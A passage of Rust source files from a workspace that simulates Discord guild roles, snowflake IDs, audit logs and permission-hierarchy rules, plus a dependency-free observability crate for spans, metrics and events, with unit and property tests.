        assert!(!d.contains(Permissions::ADMINISTRATOR));
        assert!(!d.contains(Permissions::KICK_MEMBERS));
        assert!(!d.contains(Permissions::MANAGE_GUILD));
    }
}
