//! Roles.
//!
//! Access in a guild is role-based (§4.1): every member implicitly holds
//! `@everyone`, and privileged users can create further roles. Roles have a
//! *position* — the hierarchy the five rules in [`crate::hierarchy`] are
//! defined over.

use crate::permissions::Permissions;
use crate::snowflake::Snowflake;
use serde::{Deserialize, Serialize};
use std::fmt;

/// Identifier newtype for roles.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct RoleId(pub Snowflake);

impl fmt::Display for RoleId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "role:{}", self.0)
    }
}

/// A guild role.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Role {
    /// Stable identifier.
    pub id: RoleId,
    /// Display name. The implicit base role is named `@everyone`.
    pub name: String,
    /// Hierarchy position. Higher = more senior. `@everyone` is always 0.
    pub position: u32,
    /// Guild-level permissions granted by this role.
    pub permissions: Permissions,
}

impl Role {
    /// The implicit base role every member holds.
    pub fn everyone(id: RoleId) -> Role {
        Role {
            id,
            name: "@everyone".into(),
            position: 0,
            permissions: Permissions::everyone_defaults(),
        }
    }

    /// Is this the `@everyone` role?
    pub fn is_everyone(&self) -> bool {
        self.position == 0 && self.name == "@everyone"
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn everyone_role_shape() {
        let r = Role::everyone(RoleId(Snowflake(1)));
        assert!(r.is_everyone());
        assert_eq!(r.position, 0);
        assert!(r.permissions.contains(Permissions::SEND_MESSAGES));
        assert!(!r.permissions.contains(Permissions::ADMINISTRATOR));
    }

    #[test]
    fn custom_role_is_not_everyone() {
        let r = Role {
            id: RoleId(Snowflake(2)),
            name: "Moderator".into(),
            position: 5,
            permissions: Permissions::KICK_MEMBERS | Permissions::MANAGE_MESSAGES,
        };
        assert!(!r.is_everyone());
    }
}
