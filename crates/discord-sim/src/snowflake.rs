//! Snowflake IDs.
//!
//! Discord identifies everything (users, guilds, channels, messages, roles)
//! with 64-bit snowflakes whose high bits encode a timestamp. We reproduce
//! the layout — `(ms_since_epoch << 22) | (worker << 17) | sequence` — but
//! against the *virtual* clock, so IDs sort by creation time within a run
//! and are identical across runs with the same seed and schedule.

use netsim::clock::{SimInstant, VirtualClock};
use serde::{Deserialize, Serialize};
use std::fmt;

/// A 64-bit time-ordered identifier.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Snowflake(pub u64);

impl Snowflake {
    /// The creation timestamp encoded in the ID.
    pub fn timestamp(self) -> SimInstant {
        SimInstant::from_millis(self.0 >> 22)
    }

    /// The raw value.
    pub fn raw(self) -> u64 {
        self.0
    }
}

impl fmt::Display for Snowflake {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.0)
    }
}

impl std::str::FromStr for Snowflake {
    type Err = std::num::ParseIntError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        s.parse::<u64>().map(Snowflake)
    }
}

/// Generator bound to a virtual clock and a worker ID.
#[derive(Debug, Clone)]
pub struct SnowflakeGen {
    clock: VirtualClock,
    worker: u64,
    last_ms: u64,
    sequence: u64,
}

impl SnowflakeGen {
    /// A generator for `worker` (0–31) on the shared clock.
    pub fn new(clock: VirtualClock, worker: u64) -> SnowflakeGen {
        SnowflakeGen {
            clock,
            worker: worker & 0x1f,
            last_ms: 0,
            sequence: 0,
        }
    }

    /// Mint the next ID. Within one virtual millisecond the 17-bit sequence
    /// field keeps IDs unique and ordered.
    #[allow(clippy::should_implement_trait)] // not an Iterator: never ends, no item type
    pub fn next(&mut self) -> Snowflake {
        let ms = self.clock.now().as_millis();
        if ms == self.last_ms {
            self.sequence = (self.sequence + 1) & 0x1ffff;
        } else {
            self.last_ms = ms;
            self.sequence = 0;
        }
        Snowflake((ms << 22) | (self.worker << 17) | self.sequence)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::clock::SimDuration;

    #[test]
    fn ids_are_unique_and_ordered_within_a_millisecond() {
        let clock = VirtualClock::new();
        let mut g = SnowflakeGen::new(clock, 1);
        let ids: Vec<Snowflake> = (0..100).map(|_| g.next()).collect();
        let mut sorted = ids.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(sorted.len(), 100);
        assert_eq!(ids, sorted, "generation order == sort order");
    }

    #[test]
    fn timestamp_roundtrips() {
        let clock = VirtualClock::new();
        clock.advance(SimDuration::from_secs(42));
        let mut g = SnowflakeGen::new(clock, 0);
        let id = g.next();
        assert_eq!(id.timestamp().as_millis(), 42_000);
    }

    #[test]
    fn later_time_gives_larger_ids() {
        let clock = VirtualClock::new();
        let mut g = SnowflakeGen::new(clock.clone(), 0);
        let early = g.next();
        clock.advance(SimDuration::from_millis(1));
        let late = g.next();
        assert!(late > early);
    }

    #[test]
    fn worker_field_disambiguates_generators() {
        let clock = VirtualClock::new();
        let mut a = SnowflakeGen::new(clock.clone(), 1);
        let mut b = SnowflakeGen::new(clock, 2);
        assert_ne!(a.next(), b.next());
    }

    #[test]
    fn parses_from_string() {
        let id: Snowflake = "123456789".parse().unwrap();
        assert_eq!(id.raw(), 123456789);
        assert!("notanid".parse::<Snowflake>().is_err());
    }
}
