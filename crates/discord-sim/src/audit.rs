//! The guild audit log.
//!
//! Every privileged action is recorded. Reading the log requires the
//! `VIEW_AUDIT_LOG` permission — itself one of the Figure 3 permissions.

use crate::guild::GuildId;
use crate::role::RoleId;
use crate::user::UserId;
use netsim::clock::SimInstant;

/// What happened.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AuditAction {
    /// A chatbot was installed via OAuth.
    BotInstalled {
        /// The bot account added.
        bot: UserId,
    },
    /// A member was kicked.
    MemberKicked {
        /// The removed member.
        subject: UserId,
    },
    /// A member was banned.
    MemberBanned {
        /// The banned member.
        subject: UserId,
    },
    /// A role was granted to a member.
    RoleGranted {
        /// Recipient.
        subject: UserId,
        /// Role granted.
        role: RoleId,
    },
    /// A role's permissions were edited.
    RoleEdited {
        /// The role.
        role: RoleId,
    },
    /// A role was repositioned.
    RoleSorted {
        /// The role.
        role: RoleId,
        /// New position.
        position: u32,
    },
    /// A channel was created.
    ChannelCreated {
        /// Channel name.
        name: String,
    },
    /// A message was deleted.
    MessageDeleted,
    /// A nickname was changed.
    NicknameChanged {
        /// Whose nickname.
        subject: UserId,
    },
}

/// One audit log entry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuditEntry {
    /// When (virtual time).
    pub at: SimInstant,
    /// The guild.
    pub guild: GuildId,
    /// Who performed the action.
    pub actor: UserId,
    /// What they did.
    pub action: AuditAction,
}

/// Append-only audit log across all guilds.
#[derive(Debug, Default)]
pub struct AuditLog {
    entries: Vec<AuditEntry>,
}

impl AuditLog {
    /// Empty log.
    pub fn new() -> AuditLog {
        AuditLog::default()
    }

    /// Record an entry.
    pub fn record(&mut self, entry: AuditEntry) {
        self.entries.push(entry);
    }

    /// Entries for one guild, in order.
    pub fn for_guild(&self, guild: GuildId) -> Vec<&AuditEntry> {
        self.entries.iter().filter(|e| e.guild == guild).collect()
    }

    /// Entries performed by one actor.
    pub fn by_actor(&self, actor: UserId) -> Vec<&AuditEntry> {
        self.entries.iter().filter(|e| e.actor == actor).collect()
    }

    /// Total entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True when empty.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::snowflake::Snowflake;

    #[test]
    fn filtering() {
        let mut log = AuditLog::new();
        let g1 = GuildId(Snowflake(1));
        let g2 = GuildId(Snowflake(2));
        let actor = UserId(Snowflake(9));
        log.record(AuditEntry {
            at: SimInstant::EPOCH,
            guild: g1,
            actor,
            action: AuditAction::BotInstalled {
                bot: UserId(Snowflake(3)),
            },
        });
        log.record(AuditEntry {
            at: SimInstant::EPOCH,
            guild: g2,
            actor,
            action: AuditAction::MessageDeleted,
        });
        assert_eq!(log.for_guild(g1).len(), 1);
        assert_eq!(log.for_guild(g2).len(), 1);
        assert_eq!(log.by_actor(actor).len(), 2);
        assert_eq!(log.len(), 2);
        assert!(!log.is_empty());
    }
}
