//! Property tests for the role hierarchy and permission resolution.

use discord_sim::guild::{Guild, GuildId, GuildVisibility, Member};
use discord_sim::hierarchy;
use discord_sim::role::{Role, RoleId};
use discord_sim::snowflake::Snowflake;
use discord_sim::user::UserId;
use discord_sim::Permissions;
use proptest::prelude::*;

fn fixture(actor_pos: u32, target_pos: u32, actor_perms: Permissions) -> (Guild, UserId, RoleId) {
    let owner = UserId(Snowflake(1));
    let actor = UserId(Snowflake(2));
    let everyone = RoleId(Snowflake(10));
    let actor_role = RoleId(Snowflake(11));
    let target_role = RoleId(Snowflake(12));
    let mut guild = Guild::new(
        GuildId(Snowflake(9)),
        "p",
        owner,
        everyone,
        GuildVisibility::Private,
    );
    guild.roles.insert(
        actor_role,
        Role {
            id: actor_role,
            name: "actor".into(),
            position: actor_pos,
            permissions: actor_perms,
        },
    );
    guild.roles.insert(
        target_role,
        Role {
            id: target_role,
            name: "target".into(),
            position: target_pos,
            permissions: Permissions::NONE,
        },
    );
    guild.members.insert(
        actor,
        Member {
            user: actor,
            roles: vec![actor_role],
            nickname: None,
        },
    );
    (guild, actor, target_role)
}

fn perms() -> impl Strategy<Value = Permissions> {
    any::<u64>().prop_map(|b| Permissions(b & Permissions::ALL_KNOWN.0))
}

proptest! {
    /// Rule 1 is exactly "target position strictly below actor's highest".
    #[test]
    fn rule1_iff_strictly_below(actor_pos in 0u32..20, target_pos in 0u32..20) {
        let (guild, actor, target_role) = fixture(actor_pos, target_pos, Permissions::MANAGE_ROLES);
        let allowed = hierarchy::can_grant_role(&guild, actor, target_role).is_ok();
        prop_assert_eq!(allowed, target_pos < actor_pos);
    }

    /// Rule 3: both the current and the new position must sit below.
    #[test]
    fn rule3_bounds_both_positions(actor_pos in 1u32..20, target_pos in 0u32..20, new_pos in 0u32..25) {
        let (guild, actor, target_role) = fixture(actor_pos, target_pos, Permissions::MANAGE_ROLES);
        let allowed = hierarchy::can_sort_role(&guild, actor, target_role, new_pos).is_ok();
        prop_assert_eq!(allowed, target_pos < actor_pos && new_pos < actor_pos);
    }

    /// Rule 2 never lets an actor grant a permission it lacks.
    #[test]
    fn rule2_cannot_escalate(actor_perms in perms(), grant in perms()) {
        let (guild, actor, target_role) = fixture(10, 5, actor_perms);
        if hierarchy::can_edit_role(&guild, actor, target_role, grant).is_ok() {
            // Everything newly granted must be held by the actor (or the
            // actor is an administrator, which implies everything).
            let effective = discord_sim::resolve::guild_permissions(&guild, actor).expect("member");
            prop_assert!(effective.contains(grant));
        }
    }

    /// The owner bypasses every hierarchy rule.
    #[test]
    fn owner_bypasses_everything(target_pos in 0u32..50, new_pos in 0u32..50, grant in perms()) {
        let (guild, _actor, target_role) = fixture(1, target_pos, Permissions::NONE);
        let owner = guild.owner;
        prop_assert!(hierarchy::can_grant_role(&guild, owner, target_role).is_ok());
        prop_assert!(hierarchy::can_sort_role(&guild, owner, target_role, new_pos).is_ok());
        prop_assert!(hierarchy::can_edit_role(&guild, owner, target_role, grant).is_ok());
    }

    /// Guild-level resolution: effective permissions always contain the
    /// @everyone baseline, and administrator always maxes out.
    #[test]
    fn resolution_contains_baseline(extra in perms()) {
        let (guild, actor, _t) = fixture(5, 1, extra);
        let effective = discord_sim::resolve::guild_permissions(&guild, actor).expect("member");
        prop_assert!(effective.contains(Permissions::everyone_defaults()) || extra.contains(Permissions::ADMINISTRATOR));
        if extra.contains(Permissions::ADMINISTRATOR) {
            prop_assert_eq!(effective, Permissions::ALL_KNOWN);
        } else {
            prop_assert!(effective.contains(extra));
        }
    }
}
