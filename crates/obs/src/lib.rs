//! Dependency-free observability substrate for the audit pipeline.
//!
//! One [`Obs`] handle per audit run carries three channels:
//!
//! * **spans** — a hierarchical trace of pipeline stages ([`Span`], closed
//!   by drop guards, deterministic under any worker count);
//! * **metrics** — typed counters / gauges / histograms registered under
//!   dotted paths ([`Registry`]), always live even when tracing is off;
//! * **events** — a bounded ring buffer of severity-tagged occurrences
//!   ([`EventLog`]).
//!
//! Timestamps come from a pluggable [`Clock`] — in this workspace netsim's
//! `VirtualClock` — so traces carry virtual time and reproduce exactly.
//!
//! # Cost model
//!
//! `Obs::disabled()` (the default everywhere) wires in [`NullRecorder`]:
//! [`Obs::span`] returns a disabled [`Span`] whose every method is a null
//! check, and events are dropped before formatting. Metrics stay live —
//! they are single relaxed atomic ops and the `experiments` binary's
//! `caches:` line reads them — but nothing is allocated per operation.
//!
//! # Example
//!
//! ```
//! use std::sync::Arc;
//! use obs::{JsonRecorder, ManualClock, Obs};
//!
//! let recorder = Arc::new(JsonRecorder::new());
//! let obs = Obs::with_recorder(recorder.clone(), Arc::new(ManualClock::new()));
//!
//! {
//!     let root = obs.span("audit");
//!     let shard = root.child_keyed("crawl.shard", 0);
//!     shard.record("pages", 12);
//! } // drop guards close both spans here
//!
//! obs.counter("crawl.pages_fetched").add(12);
//! assert_eq!(obs.counter_value("crawl.pages_fetched"), 12);
//! assert!(recorder.canonical_trace().contains("crawl.shard"));
//! ```

#![warn(missing_docs)]
#![forbid(unsafe_code)]

mod clock;
mod event;
mod json;
mod metrics;
mod recorder;
mod span;

pub use clock::{Clock, ManualClock};
pub use event::{Event, EventLog, Severity};
pub use metrics::{
    bucket_index, Counter, Gauge, Histogram, HistogramSnapshot, MetricValue, Registry,
    HISTOGRAM_BUCKETS,
};
pub use recorder::{JsonRecorder, NullRecorder, Recorder};
pub use span::{FieldValue, Span, SpanData};

use span::SpanInner;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// Default event ring-buffer capacity.
const DEFAULT_EVENT_CAPACITY: usize = 4096;

pub(crate) struct ObsCore {
    pub(crate) clock: Arc<dyn Clock>,
    pub(crate) recorder: Arc<dyn Recorder>,
    /// `recorder.is_tracing()`, cached at construction: checked on every
    /// span open, so it must not take a virtual call.
    tracing: bool,
    next_span: AtomicU64,
    registry: Registry,
    events: EventLog,
}

impl ObsCore {
    pub(crate) fn open_span(
        self: &Arc<ObsCore>,
        name: &'static str,
        key: Option<u64>,
        parent: Option<u64>,
    ) -> Span {
        if !self.tracing {
            return Span::disabled();
        }
        let id = self.next_span.fetch_add(1, Ordering::Relaxed);
        Span {
            inner: Some(SpanInner {
                core: Arc::clone(self),
                id,
                parent,
                name,
                key,
                start_ms: self.clock.now_millis(),
                fields: Mutex::new(Vec::new()),
            }),
        }
    }
}

/// Handle to one audit run's observability state. Cheap to clone; every
/// clone shares the same registry, recorder, clock, and event log.
#[derive(Clone)]
pub struct Obs {
    core: Arc<ObsCore>,
}

impl Obs {
    /// Observability with everything but metrics off: [`NullRecorder`],
    /// manual clock, spans disabled. This is the default wired through the
    /// pipeline when no recorder is attached.
    pub fn disabled() -> Obs {
        Obs::with_recorder(Arc::new(NullRecorder), Arc::new(ManualClock::new()))
    }

    /// Observability with the given recorder and clock.
    pub fn with_recorder(recorder: Arc<dyn Recorder>, clock: Arc<dyn Clock>) -> Obs {
        let tracing = recorder.is_tracing();
        Obs {
            core: Arc::new(ObsCore {
                clock,
                recorder,
                tracing,
                next_span: AtomicU64::new(1),
                registry: Registry::new(),
                events: EventLog::with_capacity(DEFAULT_EVENT_CAPACITY),
            }),
        }
    }

    /// Whether spans are being recorded.
    pub fn is_tracing(&self) -> bool {
        self.core.tracing
    }

    /// Open a root span. Disabled (free) unless a tracing recorder is
    /// attached.
    pub fn span(&self, name: &'static str) -> Span {
        self.core.open_span(name, None, None)
    }

    /// Open a keyed root span.
    pub fn span_keyed(&self, name: &'static str, key: u64) -> Span {
        self.core.open_span(name, Some(key), None)
    }

    /// The counter registered at `path`.
    pub fn counter(&self, path: &str) -> Counter {
        self.core.registry.counter(path)
    }

    /// The gauge registered at `path`.
    pub fn gauge(&self, path: &str) -> Gauge {
        self.core.registry.gauge(path)
    }

    /// The histogram registered at `path`.
    pub fn histogram(&self, path: &str) -> Histogram {
        self.core.registry.histogram(path)
    }

    /// Current counter value at `path` (0 when absent).
    pub fn counter_value(&self, path: &str) -> u64 {
        self.core.registry.counter_value(path)
    }

    /// Current gauge value at `path` (0 when absent).
    pub fn gauge_value(&self, path: &str) -> i64 {
        self.core.registry.gauge_value(path)
    }

    /// Every registered metric, sorted by path.
    pub fn metrics_snapshot(&self) -> Vec<(String, MetricValue)> {
        self.core.registry.snapshot()
    }

    /// A canonical one-line-per-metric rendering of every metric whose
    /// path starts with `prefix` (`""` for all), sorted by path:
    /// `path=value\n`. Because registry contents are a pure function of
    /// the instrumented program's execution, two runs of a deterministic
    /// program produce byte-identical canonical metrics — the
    /// determinism suites diff this string directly (e.g. the `sched.`
    /// slice at 1 worker vs 4).
    pub fn canonical_metrics(&self, prefix: &str) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        for (path, value) in self.metrics_snapshot() {
            if path.starts_with(prefix) {
                writeln!(out, "{path}={value}").expect("string write cannot fail");
            }
        }
        out
    }

    /// Log an event (ring buffer + recorder).
    pub fn event(&self, severity: Severity, target: &'static str, message: impl Into<String>) {
        let event = Event {
            at_ms: self.core.clock.now_millis(),
            severity,
            target,
            message: message.into(),
        };
        self.core.recorder.on_event(&event);
        self.core.events.push(event);
    }

    /// Events currently retained in the ring buffer, oldest first.
    pub fn events(&self) -> Vec<Event> {
        self.core.events.drain_snapshot()
    }

    /// Events evicted from the ring buffer so far.
    pub fn events_dropped(&self) -> u64 {
        self.core.events.dropped()
    }
}

impl Default for Obs {
    /// Same as [`Obs::disabled`].
    fn default() -> Obs {
        Obs::disabled()
    }
}

impl std::fmt::Debug for Obs {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Obs")
            .field("tracing", &self.core.tracing)
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn traced() -> (Obs, Arc<JsonRecorder>) {
        let recorder = Arc::new(JsonRecorder::new());
        let obs = Obs::with_recorder(recorder.clone(), Arc::new(ManualClock::new()));
        (obs, recorder)
    }

    #[test]
    fn disabled_spans_are_free_and_inert() {
        let obs = Obs::disabled();
        assert!(!obs.is_tracing());
        let span = obs.span("root");
        assert!(!span.is_enabled());
        let child = span.child_keyed("work", 3);
        assert!(!child.is_enabled());
        child.record("pages", 7); // must not panic or allocate state
    }

    #[test]
    fn metrics_live_even_when_disabled() {
        let obs = Obs::disabled();
        obs.counter("crawl.pages_fetched").add(5);
        assert_eq!(obs.counter_value("crawl.pages_fetched"), 5);
    }

    #[test]
    fn canonical_metrics_filters_by_prefix_and_sorts() {
        let obs = Obs::disabled();
        obs.counter("sched.submitted").add(3);
        obs.gauge("sched.queue_depth").set(-1);
        obs.histogram("sched.wait_ms").record(40);
        obs.counter("crawl.pages_fetched").incr();
        assert_eq!(
            obs.canonical_metrics("sched."),
            "sched.queue_depth=-1\nsched.submitted=3\nsched.wait_ms=n=1 sum=40 min=40 max=40\n"
        );
        assert!(obs
            .canonical_metrics("")
            .starts_with("crawl.pages_fetched=1\n"));
    }

    #[test]
    fn span_nesting_appears_in_trace() {
        let (obs, rec) = traced();
        {
            let root = obs.span("audit");
            let stage = root.child("static");
            let shard = stage.child_keyed("shard", 2);
            shard.record("pages", 4);
        }
        let trace = rec.canonical_trace();
        assert_eq!(
            trace,
            "{\"trace\":[{\"name\":\"audit\",\"children\":[\
             {\"name\":\"static\",\"children\":[\
             {\"name\":\"shard\",\"key\":2,\"fields\":{\"pages\":4}}]}]}]}"
        );
    }

    #[test]
    fn spans_close_under_panic() {
        let (obs, rec) = traced();
        let root = obs.span("audit");
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            let worker = root.child_keyed("worker", 0);
            worker.record("before_panic", 1);
            panic!("worker died");
        }));
        assert!(result.is_err());
        drop(root);
        // Both spans closed: the worker span via unwind, the root via drop.
        assert_eq!(rec.span_count(), 2);
        assert!(rec.canonical_trace().contains("before_panic"));
    }

    #[test]
    fn sibling_merge_is_order_independent() {
        // Serial run: one span per unit, in order.
        let (obs_a, rec_a) = traced();
        {
            let root = obs_a.span("stage");
            for unit in 0..4u64 {
                let s = root.child_keyed("unit", unit % 2);
                s.record("items", unit + 1);
            }
        }
        // "Parallel" run: same identities, scrambled creation order,
        // interleaved lifetimes.
        let (obs_b, rec_b) = traced();
        {
            let root = obs_b.span("stage");
            let s3 = root.child_keyed("unit", 1); // unit 3
            let s0 = root.child_keyed("unit", 0); // unit 0
            s3.record("items", 4);
            let s2 = root.child_keyed("unit", 0); // unit 2
            s0.record("items", 1);
            drop(s0);
            s2.record("items", 3);
            let s1 = root.child_keyed("unit", 1); // unit 1
            s1.record("items", 2);
            drop(s2);
        }
        assert_eq!(rec_a.canonical_trace(), rec_b.canonical_trace());
        // Merged fields sum across same-key siblings: key 0 → 1+3, key 1 → 2+4.
        assert!(rec_a
            .canonical_trace()
            .contains("\"key\":0,\"fields\":{\"items\":4}"));
        assert!(rec_a
            .canonical_trace()
            .contains("\"key\":1,\"fields\":{\"items\":6}"));
    }

    #[test]
    fn worker_span_count_is_invisible_in_canonical_trace() {
        // One serial "worker" span vs three parallel ones doing the same
        // total work must canonicalise identically: the merged node carries
        // summed fields but no span count.
        let (obs_serial, rec_serial) = traced();
        {
            let root = obs_serial.span("analysis");
            let w = root.child("worker");
            w.record("bots", 6);
        }
        let (obs_par, rec_par) = traced();
        {
            let root = obs_par.span("analysis");
            for bots in [1u64, 2, 3] {
                let w = root.child("worker");
                w.record("bots", bots);
            }
        }
        assert_eq!(rec_serial.canonical_trace(), rec_par.canonical_trace());
    }

    #[test]
    fn disagreeing_string_fields_are_dropped() {
        let (obs, rec) = traced();
        {
            let root = obs.span("stage");
            root.child_keyed("unit", 0).record_str("host", "a.example");
            root.child_keyed("unit", 0).record_str("host", "b.example");
            root.child_keyed("unit", 1).record_str("host", "c.example");
        }
        let trace = rec.canonical_trace();
        assert!(!trace.contains("a.example"));
        assert!(!trace.contains("b.example"));
        assert!(trace.contains("c.example"), "agreeing singleton survives");
    }

    #[test]
    fn events_flow_to_ring_buffer_and_recorder() {
        let (obs, rec) = traced();
        obs.event(Severity::Warn, "store.journal", "torn frame discarded");
        assert_eq!(obs.events().len(), 1);
        assert_eq!(rec.events().len(), 1);
        assert_eq!(rec.events()[0].severity, Severity::Warn);
        assert_eq!(obs.events_dropped(), 0);
    }
}
