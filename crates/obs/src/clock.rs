//! Time source for span timestamps and event log entries.
//!
//! `obs` never reads the OS clock. Whoever constructs an [`crate::Obs`]
//! supplies a [`Clock`]; in this workspace that is netsim's `VirtualClock`
//! (which implements the trait), so traces carry *virtual* milliseconds and
//! stay exactly reproducible run over run.

use std::sync::atomic::{AtomicU64, Ordering};

/// A monotonic millisecond clock.
pub trait Clock: Send + Sync {
    /// Milliseconds since the clock's epoch.
    fn now_millis(&self) -> u64;
}

/// A hand-advanced clock: the default for tests and for metric-only
/// observability where timestamps don't matter.
#[derive(Debug, Default)]
pub struct ManualClock {
    ms: AtomicU64,
}

impl ManualClock {
    /// A clock at the epoch.
    pub fn new() -> ManualClock {
        ManualClock::default()
    }

    /// Advance by `ms` milliseconds and return the new time.
    pub fn advance(&self, ms: u64) -> u64 {
        self.ms.fetch_add(ms, Ordering::SeqCst) + ms
    }
}

impl Clock for ManualClock {
    fn now_millis(&self) -> u64 {
        self.ms.load(Ordering::SeqCst)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn manual_clock_advances() {
        let c = ManualClock::new();
        assert_eq!(c.now_millis(), 0);
        assert_eq!(c.advance(250), 250);
        assert_eq!(c.now_millis(), 250);
    }
}
