//! Minimal JSON string escaping — enough to emit canonical trace dumps
//! without pulling a serializer into a dependency-free crate.

/// Append `s` to `out` as a JSON string literal (with surrounding quotes).
pub fn write_str(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_specials() {
        let mut out = String::new();
        write_str(&mut out, "a\"b\\c\nd\u{1}");
        assert_eq!(out, "\"a\\\"b\\\\c\\nd\\u0001\"");
    }
}
