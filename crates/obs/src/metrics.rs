//! Typed metrics registered under dotted paths.
//!
//! Three shapes, mirroring the Prometheus trinity:
//!
//! * [`Counter`] — a monotonically increasing `u64` (`crawl.pages_fetched`);
//! * [`Gauge`] — a settable `i64` (`analysis.pool.workers`);
//! * [`Histogram`] — power-of-two bucketed `u64` samples with count / sum /
//!   min / max (`crawl.page_ms`).
//!
//! Handles are `Arc`-backed and cheap to clone; increments are single
//! atomic operations, so the registry stays live even when tracing is
//! disabled — the `caches:` line of the `experiments` binary is a plain
//! view over [`Registry::snapshot`].

use std::collections::BTreeMap;
use std::fmt;
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// Number of histogram buckets: one for zero plus one per power of two.
pub const HISTOGRAM_BUCKETS: usize = 65;

/// A monotonically increasing counter.
#[derive(Clone, Debug, Default)]
pub struct Counter {
    cell: Arc<AtomicU64>,
}

impl Counter {
    /// A detached counter (not registered anywhere).
    pub fn detached() -> Counter {
        Counter::default()
    }

    /// Add `n` to the counter.
    pub fn add(&self, n: u64) {
        self.cell.fetch_add(n, Ordering::Relaxed);
    }

    /// Increment by one.
    pub fn incr(&self) {
        self.add(1);
    }

    /// Current value.
    pub fn value(&self) -> u64 {
        self.cell.load(Ordering::Relaxed)
    }
}

/// A settable signed gauge.
#[derive(Clone, Debug, Default)]
pub struct Gauge {
    cell: Arc<AtomicI64>,
}

impl Gauge {
    /// A detached gauge (not registered anywhere).
    pub fn detached() -> Gauge {
        Gauge::default()
    }

    /// Set the gauge to `v`.
    pub fn set(&self, v: i64) {
        self.cell.store(v, Ordering::Relaxed);
    }

    /// Add `delta` (may be negative).
    pub fn add(&self, delta: i64) {
        self.cell.fetch_add(delta, Ordering::Relaxed);
    }

    /// Current value.
    pub fn value(&self) -> i64 {
        self.cell.load(Ordering::Relaxed)
    }
}

#[derive(Debug)]
struct HistogramCells {
    count: AtomicU64,
    sum: AtomicU64,
    min: AtomicU64,
    max: AtomicU64,
    buckets: [AtomicU64; HISTOGRAM_BUCKETS],
}

impl Default for HistogramCells {
    fn default() -> Self {
        HistogramCells {
            count: AtomicU64::new(0),
            sum: AtomicU64::new(0),
            min: AtomicU64::new(u64::MAX),
            max: AtomicU64::new(0),
            buckets: std::array::from_fn(|_| AtomicU64::new(0)),
        }
    }
}

/// Power-of-two bucketed histogram of `u64` samples.
#[derive(Clone, Debug, Default)]
pub struct Histogram {
    cells: Arc<HistogramCells>,
}

/// Bucket index for a sample: bucket 0 holds exactly zero, bucket `i ≥ 1`
/// holds `[2^(i-1), 2^i)`.
pub fn bucket_index(v: u64) -> usize {
    if v == 0 {
        0
    } else {
        64 - v.leading_zeros() as usize
    }
}

impl Histogram {
    /// A detached histogram (not registered anywhere).
    pub fn detached() -> Histogram {
        Histogram::default()
    }

    /// Record one sample.
    pub fn record(&self, v: u64) {
        let c = &*self.cells;
        c.count.fetch_add(1, Ordering::Relaxed);
        c.sum.fetch_add(v, Ordering::Relaxed);
        c.min.fetch_min(v, Ordering::Relaxed);
        c.max.fetch_max(v, Ordering::Relaxed);
        c.buckets[bucket_index(v)].fetch_add(1, Ordering::Relaxed);
    }

    /// Point-in-time summary.
    pub fn snapshot(&self) -> HistogramSnapshot {
        let c = &*self.cells;
        let count = c.count.load(Ordering::Relaxed);
        HistogramSnapshot {
            count,
            sum: c.sum.load(Ordering::Relaxed),
            min: if count == 0 {
                0
            } else {
                c.min.load(Ordering::Relaxed)
            },
            max: c.max.load(Ordering::Relaxed),
            buckets: std::array::from_fn(|i| c.buckets[i].load(Ordering::Relaxed)),
        }
    }
}

/// A point-in-time histogram summary.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HistogramSnapshot {
    /// Samples recorded.
    pub count: u64,
    /// Sum of all samples.
    pub sum: u64,
    /// Smallest sample (0 when empty).
    pub min: u64,
    /// Largest sample (0 when empty).
    pub max: u64,
    /// Per-bucket counts (see [`bucket_index`]).
    pub buckets: [u64; HISTOGRAM_BUCKETS],
}

impl HistogramSnapshot {
    /// Mean sample value (0.0 when empty).
    pub fn mean(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum as f64 / self.count as f64
        }
    }
}

/// A snapshot of one registered metric.
#[derive(Clone, Debug, PartialEq)]
pub enum MetricValue {
    /// Counter value.
    Counter(u64),
    /// Gauge value.
    Gauge(i64),
    /// Histogram summary (boxed: the bucket array is large).
    Histogram(Box<HistogramSnapshot>),
}

impl fmt::Display for MetricValue {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            MetricValue::Counter(v) => write!(f, "{v}"),
            MetricValue::Gauge(v) => write!(f, "{v}"),
            MetricValue::Histogram(h) => {
                write!(f, "n={} sum={} min={} max={}", h.count, h.sum, h.min, h.max)
            }
        }
    }
}

#[derive(Clone, Debug)]
enum Metric {
    Counter(Counter),
    Gauge(Gauge),
    Histogram(Histogram),
}

